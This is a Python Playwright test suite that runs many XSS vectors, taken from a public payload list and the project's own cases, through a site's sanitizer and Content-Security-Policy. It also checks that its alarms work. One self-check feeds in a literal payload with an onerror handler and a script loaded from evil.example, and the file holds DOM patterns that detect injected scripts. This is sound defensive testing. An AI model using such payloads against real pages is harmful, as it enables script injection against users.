"""No script of a stranger runs: every vector, in every format and field, in a real browser without any policy; and raw,
as if no gate had held it, with the policy on.

A sample runs by default; `make xss` (ROTATIVE_XSS=all) runs all, and prints how many there were.
"""

import contextlib
import os
import shutil
from collections.abc import Iterator, Mapping, Sized
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Error, Page, Request, Route

from infra.local.template import load
from tests.core.test_sanitize import own_cases
from tests.core.uploads import public_list
from tests.e2e.vectors import PATH, page_with, places, raw_page

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not shutil.which("chromium"), reason="needs Debian's chromium: apt-get install chromium"),
]
SITE = "https://www.example.ma"
_STEP = 1 if os.environ.get("ROTATIVE_XSS") == "all" else 60
_PATIENCE = 60_000  # milliseconds for one page, on a machine with much to do
# Whoever runs at all gets noticed: these are what vectors call to show that they did. Playwright itself needs eval.
_ALARM = """
for (const name of ["alert", "prompt", "confirm", "print", "open", "fetch", "find", "stop"])
  window[name] = () => { console.log("a script ran"); };
for (const name of ["write", "writeln"]) document[name] = () => { console.log("a script ran"); };
"""
# What waits for a reader's hand: handlers, and links that are scripts.
_TRAPS = """() => [...document.querySelectorAll("*")].flatMap(element => [
  ...[...element.attributes].filter(each => each.name.startsWith("on") || each.name === "style"
    || /^[\\s\\u0000-\\u0020]*(javascript|vbscript|data):/i.test(each.value)
      && ["href", "src", "action", "cite"].includes(each.name))
    .map(each => element.tagName + " " + each.name),
  ...(/^(SCRIPT|IFRAME|OBJECT|EMBED|BASE|APPLET|MATH|STYLE|FRAME|META|LINK)$/.test(element.tagName)
      && element.closest("main") && element.type !== "application/ld+json" ? [element.tagName] : []),
])"""
_PULL = """() => { for (const element of document.querySelectorAll("*")) {
  for (const each of element.attributes)
    if (each.name.startsWith("on")) element.dispatchEvent(new Event(each.name.slice(2)));
  if (/^[\\s\\u0000-\\u0020]*javascript:/i.test(element.getAttribute("href") || "")) element.click();
} }"""


@dataclass
class Visit:
    """One page open in the browser: what is served, and what was noticed while it was looked at."""

    page: Page
    headers: Mapping[str, str]
    html: str = ""
    alarms: list[str] = field(default_factory=list)
    strangers: list[str] = field(default_factory=list)

    def answer(self, route: Route) -> None:
        """Serve the page at its own address; no other address leads anywhere in this browser."""
        route.fulfill(body=self.html, content_type="text/html; charset=utf-8", headers=dict(self.headers))

    def notice(self, request: Request) -> None:
        if not request.url.startswith((SITE, "data:")):
            self.strangers.append(request.url)

    def dismiss(self, dialog: Dialog) -> None:
        self.alarms.append(dialog.message)
        dialog.dismiss()

    def look_at(self, html: str) -> None:
        self.html = html
        self.alarms.clear()
        self.strangers.clear()
        self.page.goto(SITE + PATH, wait_until="domcontentloaded")


def vectors() -> list[str]:
    public = public_list("xss-payload-list.txt").read_text(errors="replace").splitlines()
    return [vector for vector in dict.fromkeys([*own_cases(), *public]) if vector.strip()][::_STEP]


def tell(tried: Sized, ran: Sized, how: str) -> None:
    print(f"{len(tried) - len(ran)} of {len(tried)} vectors did nothing, {how}")


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    opened = browser.new_context()
    opened.set_default_timeout(_PATIENCE)
    opened.add_init_script(_ALARM)
    yield opened
    opened.close()


def visit(context: BrowserContext, headers: Mapping[str, str]) -> Visit:
    made = Visit(context.new_page(), headers)
    made.page.on("console", lambda said: made.alarms.append(said.text) if said.text == "a script ran" else None)
    made.page.on("dialog", made.dismiss)
    made.page.on("request", made.notice)
    made.page.route(SITE + PATH, made.answer)
    return made


def test_an_alarm_rings_when_a_script_does_run(context: BrowserContext) -> None:
    """What this file would see if there were anything to see."""
    looking = visit(context, {})
    looking.look_at(raw_page("<img src=x onerror=alert(1)><script src=//evil.example/x.js></script>"))
    looking.page.wait_for_load_state("load")
    looking.page.evaluate(_PULL)
    assert looking.alarms
    assert looking.strangers
    assert looking.page.evaluate(_TRAPS)


def test_no_vector_runs_in_any_format_or_field_without_any_policy(context: BrowserContext) -> None:
    looking = visit(context, {})
    tried, ran, refused = vectors(), dict[str, object](), 0
    for vector in tried:
        page, elsewhere = page_with(vector)
        refused += elsewhere
        looking.look_at(page)
        found = [*looking.alarms, *looking.strangers, *looking.page.evaluate(_TRAPS)]
        if found:
            ran[vector] = found
    tell(tried, ran, f"without a policy, as {', '.join(places())}: {refused} of {len(tried) * len(places())} refused")
    assert not ran


def test_no_vector_runs_raw_under_the_policy_of_the_template(context: BrowserContext) -> None:
    policy = {"Content-Security-Policy": load().headers["Content-Security-Policy"].value}
    context.set_default_timeout(_PATIENCE / 10)
    looking = visit(context, policy)
    tried, ran = vectors(), dict[str, object]()
    for vector in tried:
        with contextlib.suppress(Error):  # a raw vector may lead the page away
            looking.look_at(raw_page(vector))
            looking.page.evaluate(_PULL)
        if looking.alarms:
            ran[vector] = [*looking.alarms]
    tell(tried, ran, "raw, under the policy")
    assert not ran
